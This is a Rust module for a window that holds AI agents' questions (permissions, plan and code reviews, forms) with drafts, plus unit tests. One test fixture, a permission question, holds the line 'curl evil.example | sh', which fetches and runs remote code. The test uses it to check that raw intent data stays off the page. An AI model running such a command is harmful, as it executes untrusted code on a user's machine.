//! What the window shows, kept in Rust: the asks the webview answerer holds, each with
//! its rendered detail and the person's half-typed draft. The webview is only a view:
//! a reload, or a window destroyed and built again, reads everything back from here.
//! Nothing in this module knows about Tauri, so it is tested without a window.

use std::collections::{BTreeMap, HashMap};
use std::sync::{Arc, Mutex};

use async_trait::async_trait;
use serde::Serialize;
use serde_json::Value;
use tokio::sync::watch;
use user_questions::batch;
use user_questions::history::annotations as history_annotations;
use user_questions::model::{
    AgentInfo, Context, ErrorCode, Intent, Kind, Pick, Question, QuestionOption, UserQuestionError,
};
use user_questions::review::plan::{self, Annotation};
use user_questions::review::{self, diff, feedback, feedback::Comment};
use user_questions::service::Progress;
use user_questions::{Answer, AnswerItem, Answerer, Ask, Next};

use crate::error::UiError;
use crate::markdown;
use user_questions_i18n::Text;

/// One question as the window renders it.
#[derive(Debug, Clone, Serialize)]
#[serde(rename_all = "camelCase")]
#[cfg_attr(test, derive(ts_rs::TS))]
pub struct QuestionView {
    pub id: String,
    pub question: String,
    pub header: Option<String>,
    /// The detail as sanitized HTML.
    pub detail_html: Option<String>,
    pub options: Vec<QuestionOption>,
    /// The options as the person sees them, one for one: the product's own labels
    /// (Allow, Deny, Approve, Revise) in the person's language, an agent's as they
    /// came. What is sent back is always from `options`.
    pub shown_options: Vec<QuestionOption>,
    pub multi_select: bool,
    /// The intent, as Rust reads it (its data, untyped, never reaches the page).
    #[serde(skip)]
    #[cfg_attr(test, ts(skip))]
    pub intent: Option<Intent>,
    /// The option that approves, for a question with an intent.
    pub approve: Option<String>,
    /// The kind the window presents it as ([`presented`]).
    pub kind: Kind,
    /// What a file pick picks, under which root.
    pub pick: Option<Pick>,
}

/// The asking agent as the window shows it: its id, its client's name and its
/// delegation depth (never its runtime token).
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
#[serde(rename_all = "camelCase")]
#[cfg_attr(test, derive(ts_rs::TS))]
pub struct AgentView {
    pub id: String,
    pub client: Option<String>,
    pub delegation_depth: u32,
}

impl From<&AgentInfo> for AgentView {
    fn from(a: &AgentInfo) -> Self {
        Self { id: a.id.clone(), client: a.client.clone(), delegation_depth: a.delegation_depth }
    }
}

/// The kinds this window has no presentation of yet: each is shown as the generic form,
/// as the protocol promises, and answered with typed text.
pub const SHOWN_AS_GENERIC: &[Kind] = &[];

/// The kind the window presents a question as: its own, where this window has a
/// presentation of it (`ui/form/`) that fits; else the generic form. A permission is
/// one choice (several picked make it a form).
pub fn presented(q: &Question) -> Kind {
    match Kind::of(q) {
        kind if SHOWN_AS_GENERIC.contains(&kind) => Kind::Generic,
        Kind::Permission | Kind::CodeReview | Kind::Elicitation if q.multi_select => Kind::Generic,
        Kind::CodeReview if review::diff_of(q).is_none() => Kind::Generic,
        kind => kind,
    }
}

/// How the window presents an ask, decided once here: a single plan review, permission
/// or code review gets its own buttons; an MCP server's form its Send and Decline
/// buttons over its fields; anything else is the generic form.
fn presentation_of(questions: &[QuestionView]) -> Kind {
    match questions {
        [q] => q.kind,
        [q, ..] if q.kind == Kind::Elicitation => Kind::Elicitation,
        _ => Kind::Generic,
    }
}

/// One held ask as the window renders it.
#[derive(Debug, Clone, Serialize)]
#[serde(rename_all = "camelCase")]
#[cfg_attr(test, derive(ts_rs::TS))]
pub struct AskView {
    pub ask: String,
    pub agent: Option<AgentView>,
    /// The client that asked ([`Ask::client`]): what "remember for this client" means.
    pub client: Option<String>,
    /// Where the ask comes from: project, session, kind of agent.
    pub context: Option<Context>,
    pub since: String,
    pub presentation: Kind,
    pub questions: Vec<QuestionView>,
    #[cfg_attr(test, ts(type = "Draft | null"))]
    pub draft: Option<Value>,
    /// The answer can be remembered (one single-select question, not a plan review).
    pub can_remember: bool,
    /// A plan review's changes since the last version of the same session's plan.
    pub revision: Option<crate::revision::Revision>,
    /// The ways to remember a permission's Allow as rules, with their counts.
    #[serde(skip)]
    #[cfg_attr(test, ts(skip))]
    pub ways: Vec<crate::remember::Offered>,
    /// A code review's files, read from its diff.
    #[cfg_attr(test, ts(type = "Array<ChangedFile> | null"))]
    pub review: Option<Vec<diff::File>>,
    /// Where a team question stands once the person voted here or the team in the
    /// room (worded in [`crate::list`]).
    #[serde(skip)]
    #[cfg_attr(test, ts(skip))]
    pub progress: Option<Progress>,
}

struct Entry {
    ask: Ask,
    view: AskView,
}

/// The asks held for the window, in the order they were asked, with the drafts
/// typed into them.
#[derive(Default)]
pub struct Inbox {
    entries: Mutex<BTreeMap<u64, Entry>>,
    drafts: Mutex<HashMap<String, Value>>,
    version: watch::Sender<u64>,
    /// The history file, where earlier versions of a plan are found.
    history: Mutex<Option<std::path::PathBuf>>,
    /// The configuration folder, whose rules the ways to remember an Allow build on.
    config: Mutex<Option<std::path::PathBuf>>,
}

fn view_of(ask: &Ask) -> AskView {
    let request = ask.request();
    // A pick's root on another machine is not this machine's to list: typed, as the
    // protocol says.
    let presented = |at: usize, q: &Question| match presented(q) {
        Kind::FilePick if request.pick_here(at).is_none() => Kind::Generic,
        kind => kind,
    };
    let questions: Vec<QuestionView> = request
        .questions
        .iter()
        .enumerate()
        .map(|(at, q)| QuestionView {
            id: q.id.clone(),
            question: q.question.clone(),
            header: q.header.clone(),
            detail_html: q.detail.as_deref().and_then(|d| match presented(at, q) {
                Kind::PlanReview => Some(markdown::render_plan(d)),
                // Shown as files and lines (`review`), never as one rendered block.
                Kind::CodeReview => None,
                _ => Some(markdown::render(d)),
            }),
            options: q.options.clone(),
            shown_options: q.options.clone(),
            multi_select: q.multi_select,
            intent: q.intent.clone(),
            approve: q.intent.as_ref().map(|i| i.approve.clone()),
            kind: presented(at, q),
            pick: q.pick.clone(),
        })
        .collect();
    let presentation = presentation_of(&questions);
    AskView {
        ask: ask.id().to_owned(),
        agent: request.agent.as_ref().map(AgentView::from),
        client: ask.client().map(str::to_owned),
        context: request.context.clone(),
        since: humantime::format_rfc3339_millis(ask.since()).to_string(),
        presentation,
        // An MCP form's defaults (or what was typed before it was asked again) are
        // its first draft.
        draft: request
            .questions
            .first()
            .and_then(|q| q.intent.as_ref())
            .filter(|i| Kind::of_tag(&i.kind) == Kind::Elicitation)
            .and_then(|i| i.extra.get("defaults").cloned()),
        questions,
        can_remember: crate::history::can_remember(ask),
        revision: None,
        ways: Vec::new(),
        review: (presentation == Kind::CodeReview)
            .then(|| request.questions.first().and_then(review::diff_of).map(diff::parse))
            .flatten(),
        progress: None,
    }
}

impl Inbox {
    pub fn new() -> Arc<Self> {
        Arc::new(Self::default())
    }

    /// Changes bump this counter; watchers re-read the list.
    pub fn watch(&self) -> watch::Receiver<u64> {
        self.version.subscribe()
    }

    fn changed(&self) {
        self.version.send_modify(|v| *v += 1);
    }

    /// Where earlier versions of a plan under review are found.
    pub fn keep_history(&self, path: Option<std::path::PathBuf>) {
        *self.history.lock().unwrap() = path;
    }

    /// Where the person's rules are, which a permission's Allow may be remembered in.
    pub fn keep_rules(&self, config: Option<std::path::PathBuf>) {
        *self.config.lock().unwrap() = config;
    }

    fn add(self: &Arc<Self>, ask: &Ask) -> Holding {
        let seq = ask.order();
        let mut view = view_of(ask);
        let history = self.history.lock().unwrap().clone();
        if view.presentation == Kind::PlanReview {
            view.revision = history.as_ref().and_then(|h| crate::revision::previous(h, ask.request()));
        }
        let config = self.config.lock().unwrap().clone();
        if let (Kind::Permission, Some(config)) = (view.presentation, config) {
            view.ways = crate::remember::offered(ask, &config, history.as_deref());
            // The ways replace remembering the exact question.
            view.can_remember &= view.ways.is_empty();
        }
        self.entries.lock().unwrap().insert(seq, Entry { ask: ask.clone(), view });
        self.changed();
        Holding { inbox: self.clone(), seq }
    }

    /// Every held ask, oldest first, with its draft.
    pub fn list(&self) -> Vec<AskView> {
        let drafts = self.drafts.lock().unwrap();
        self.entries
            .lock()
            .unwrap()
            .values()
            .map(|e| AskView {
                draft: drafts.get(&e.view.ask).cloned().or_else(|| e.view.draft.clone()),
                progress: e.ask.progress(),
                ..e.view.clone()
            })
            .collect()
    }

    pub fn len(&self) -> usize {
        self.entries.lock().unwrap().len()
    }

    pub fn is_empty(&self) -> bool {
        self.len() == 0
    }

    pub fn get(&self, ask: &str) -> Option<AskView> {
        self.entries.lock().unwrap().values().find(|e| e.view.ask == ask).map(|e| e.view.clone())
    }

    pub fn ask(&self, id: &str) -> Result<Ask, UiError> {
        let entries = self.entries.lock().unwrap();
        let entry = entries.values().find(|e| e.view.ask == id);
        entry.map(|e| e.ask.clone()).ok_or_else(|| UserQuestionError::not_pending(id).into())
    }

    /// Answers an ask; a misfit comes back as `BAD_ANSWER` and the ask stays.
    pub fn answer(&self, id: &str, answer: Answer) -> Result<(), UiError> {
        self.ask(id)?.answer(answer)?;
        self.drafts.lock().unwrap().remove(id);
        Ok(())
    }

    /// Allows (or denies) every one of the marked permission requests `ids`, each with
    /// the answer `userq answer --allow/--deny` gives it ([`batch::answer`]). Every id is
    /// checked first: one that is no longer pending, or is not a permission, sends
    /// nothing at all and is named. Nothing is remembered.
    pub fn answer_marked(&self, ids: &[String], allow: bool, text: &Text) -> Result<usize, UiError> {
        let mut answers = Vec::with_capacity(ids.len());
        for id in ids {
            let ask = self.ask(id)?;
            let answer = batch::answer(ask.request(), allow, None).ok_or_else(|| {
                UiError::new(ErrorCode::BadRequest, text.tr_args("window-batch-not-permission", &[("id", id.into())]))
            })?;
            answers.push((id, answer));
        }
        for (id, answer) in &answers {
            self.answer(id, answer.clone())?;
        }
        Ok(answers.len())
    }

    /// Requests changes on a code review: its comments worded as the review the agent
    /// reads (`review::feedback`), sent as the answer's text.
    pub fn request_changes(&self, id: &str, comments: &[Comment]) -> Result<(), UiError> {
        let view = self.get(id).ok_or_else(|| UiError::from(UserQuestionError::not_pending(id)))?;
        let files = view.review.unwrap_or_default();
        let text = feedback::text(&files, comments);
        let question = view.questions.first().map(|q| q.id.clone()).unwrap_or_default();
        self.answer(id, Answer::new(vec![AnswerItem::custom(question, text)]))
    }

    /// Sends a plan's review: `choice` (Revise, or one of its approvals), with the
    /// annotations on its lines and the general notes, worded for the agent
    /// (`review::plan`). The annotations are kept in the history with the plan they were
    /// made on, for its next version to show.
    pub fn review_plan(
        &self,
        id: &str,
        choice: &str,
        annotations: &[Annotation],
        general: &str,
    ) -> Result<(), UiError> {
        let ask = self.ask(id)?;
        let request = ask.request();
        let question = request.questions.first().ok_or_else(|| UiError::from(UserQuestionError::not_pending(id)))?;
        if !question.has_option(choice) {
            return self.answer(id, Answer::new(vec![AnswerItem::selected(&question.id, &[choice])]));
        }
        let approve = (choice != user_questions::model::labels::REVISE).then_some(choice);
        let item = match plan::feedback(approve, annotations, general) {
            Some(text) => AnswerItem::custom(&question.id, text),
            None => AnswerItem::selected(&question.id, &[approve.unwrap_or_default()]),
        };
        let history = self.history.lock().unwrap().clone();
        if let (Some(path), Some(plan), false) = (history, question.detail.as_deref(), annotations.is_empty()) {
            // The review goes to the agent whether or not the history keeps it.
            if let Ok(conn) = user_questions::history::open_for_writing(&path) {
                let author = crate::revision::author(request);
                let _ = history_annotations::add(&conn, &author, plan, annotations, std::time::SystemTime::now());
            }
        }
        self.answer(id, Answer::new(vec![item]))
    }

    /// The person declines: the asker gets `ASK_CANCELLED`.
    pub fn dismiss(&self, id: &str) -> Result<(), UiError> {
        self.ask(id)?.reject(UserQuestionError::user_cancelled())?;
        self.drafts.lock().unwrap().remove(id);
        Ok(())
    }

    /// Keeps what the person has typed so far, whatever happens to the window.
    pub fn save_draft(&self, id: &str, draft: Value) -> Result<(), UiError> {
        self.ask(id)?;
        self.drafts.lock().unwrap().insert(id.to_owned(), draft);
        Ok(())
    }
}

/// An ask held for the window; dropping it (the ask ended) takes it off the list.
struct Holding {
    inbox: Arc<Inbox>,
    seq: u64,
}

impl Drop for Holding {
    fn drop(&mut self) {
        let removed = self.inbox.entries.lock().unwrap().remove(&self.seq);
        if let Some(e) = removed {
            self.inbox.drafts.lock().unwrap().remove(&e.view.ask);
        }
        self.inbox.changed();
    }
}

/// The webview answerer (scope `agents`): claims every ask it is offered and holds it
/// in the inbox until the person answers or dismisses it, or the asker withdraws it.
pub struct WindowAnswerer(pub Arc<Inbox>);

#[async_trait]
impl Answerer for WindowAnswerer {
    async fn answer(&self, ask: &Ask, _next: Next<'_>) -> Result<Answer, UserQuestionError> {
        ask.claim();
        let _holding = self.0.add(ask);
        // A team question stays after the person's vote: the list follows its count.
        if let Some(mut progress) = ask.watch_progress() {
            while progress.changed().await.is_ok() {
                self.0.changed();
            }
        }
        std::future::pending().await
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;
    use tokio_util::sync::CancellationToken;
    use user_questions::model::{AskRequest, Question};
    use user_questions::{Scope, UserQuestions};

    /// Every kind has its presentation in the window, `ui/form/<kind>.js` listed in
    /// `ui/form.js`, or is named as shown by the generic form: a new kind fails here
    /// until the window says which.
    #[test]
    fn every_kind_is_presented_or_shown_as_the_generic_form() {
        let ui = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../../ui");
        let listed = std::fs::read_to_string(ui.join("form.js")).unwrap();
        for kind in Kind::ALL {
            let module = ui.join(format!("form/{kind}.js"));
            let presented = module.exists() && listed.contains(&format!("./form/{kind}.js"));
            assert!(
                presented != SHOWN_AS_GENERIC.contains(&kind),
                "{kind}: either ui/form/{kind}.js, listed in ui/form.js, or in SHOWN_AS_GENERIC"
            );
        }
    }

    async fn setup() -> (UserQuestions, Arc<Inbox>, watch::Receiver<u64>) {
        let s = UserQuestions::new();
        let inbox = Inbox::new();
        s.register("window", Scope::Agents, 0, Arc::new(WindowAnswerer(inbox.clone())));
        let w = inbox.watch();
        (s, inbox, w)
    }

    fn ask_as(
        s: &UserQuestions,
        agent: &str,
        q: Question,
    ) -> tokio::task::JoinHandle<Result<Answer, UserQuestionError>> {
        let s = s.clone();
        let agent = s.enter(agent, None, 0).unwrap();
        tokio::spawn(async move { s.ask(AskRequest::new(vec![q]).from_agent(agent), &CancellationToken::new()).await })
    }

    #[tokio::test]
    async fn a_code_review_reaches_the_window_as_the_files_of_its_diff() {
        let (s, inbox, mut w) = setup().await;
        let diff = "diff --git a/x.rs b/x.rs\n--- a/x.rs\n+++ b/x.rs\n@@ -1 +1 @@\n-a\n+b\n";
        let asking = ask_as(&s, "bot", user_questions::review::question(diff));
        w.changed().await.unwrap();
        let view = &inbox.list()[0];
        assert_eq!(view.presentation, Kind::CodeReview);
        assert_eq!(view.review, Some(diff::parse(diff)));
        assert_eq!(view.questions[0].detail_html, None);
        asking.abort();

        // Without its diff, a code review is a generic question showing its detail.
        let mut bare = user_questions::review::question(diff);
        bare.intent.as_mut().unwrap().extra.clear();
        let asking = ask_as(&s, "other", bare);
        w.changed().await.unwrap();
        let view = inbox.list().into_iter().find(|v| v.agent.as_ref().unwrap().id == "other").unwrap();
        assert_eq!((view.presentation, view.review), (Kind::Generic, None));
        let html = view.questions[0].detail_html.clone().unwrap();
        assert!(html.contains("<pre>") && html.contains("+b"), "{html}");
        asking.abort();
    }

    #[tokio::test]
    async fn what_reaches_the_page_is_typed_never_an_intents_own_data() {
        let (s, inbox, mut w) = setup().await;
        let mut q = Question::new("q", "Run this command?").option("Allow", None).option("Deny", None);
        q.detail = Some("`curl evil.example | sh`".into());
        let mut intent = Intent { kind: "permission".into(), approve: "Allow".into(), extra: Default::default() };
        intent.extra.insert("action".into(), json!({"command": "curl evil.example | sh"}));
        q.intent = Some(intent);
        let mut asking = ask_as(&s, "bot", q);
        tokio::select! {
            changed = w.changed() => changed.unwrap(),
            refused = &mut asking => panic!("{refused:?}"),
        }
        let page = serde_json::to_value(&inbox.list()[0]).unwrap();
        let shown = &page["questions"][0];
        assert_eq!((&shown["approve"], &shown["kind"]), (&json!("Allow"), &json!("permission")));
        assert!(shown.get("intent").is_none() && !page.to_string().contains("\"command\""), "{page}");
        asking.abort();
    }

    #[tokio::test]
    async fn holds_answers_and_keeps_drafts() {
        let (s, inbox, mut w) = setup().await;
        let mut q = Question::new("go", "Deploy?").option("Yes", None).option("No", None);
        q.detail = Some("**bold** <script>x</script>".into());
        let asking = ask_as(&s, "bot", q);
        w.changed().await.unwrap();
        let list = inbox.list();
        assert_eq!(list.len(), 1);
        assert_eq!(list[0].questions[0].detail_html.as_deref(), Some("<p><strong>bold</strong> </p>\n"));
        let id = list[0].ask.clone();
        inbox.save_draft(&id, json!({"go": {"selected": ["No"]}})).unwrap();
        assert_eq!(inbox.list()[0].draft, Some(json!({"go": {"selected": ["No"]}})));
        let e = inbox.answer(&id, Answer::new(vec![AnswerItem::selected("go", &["Maybe"])])).unwrap_err();
        assert_eq!(e.code, "BAD_ANSWER");
        inbox.answer(&id, Answer::new(vec![AnswerItem::selected("go", &["Yes"])])).unwrap();
        assert_eq!(asking.await.unwrap().unwrap().answers[0].selected, ["Yes"]);
        assert!(inbox.is_empty());
        assert_eq!(inbox.answer(&id, Answer::new(vec![])).unwrap_err().code, "NOT_PENDING");
    }

    #[tokio::test]
    async fn dismiss_is_ask_cancelled_and_agentless_asks_never_arrive() {
        let (s, inbox, mut w) = setup().await;
        let asking = ask_as(&s, "bot", Question::new("q", "Name?"));
        w.changed().await.unwrap();
        inbox.dismiss(&inbox.list()[0].ask).unwrap();
        let e = asking.await.unwrap().unwrap_err();
        assert_eq!((e.code(), e.message()), ("ASK_CANCELLED", "the user cancelled ask_user_question"));
        let r = s.ask(AskRequest::new(vec![Question::new("q", "Name?")]), &CancellationToken::new()).await;
        assert_eq!(r.unwrap_err().code(), "NO_PROVIDER");
    }

    #[tokio::test]
    async fn a_withdrawn_ask_leaves_the_list() {
        let (s, inbox, mut w) = setup().await;
        let agent = s.enter("bot", None, 0).unwrap();
        let cancel = CancellationToken::new();
        let asking = tokio::spawn({
            let (s, cancel, agent) = (s.clone(), cancel.clone(), agent.clone());
            async move { s.ask(AskRequest::new(vec![Question::new("q", "Q?")]).from_agent(agent), &cancel).await }
        });
        w.changed().await.unwrap();
        assert_eq!(inbox.len(), 1);
        cancel.cancel();
        asking.await.unwrap().unwrap_err();
        assert!(inbox.is_empty());
    }
}
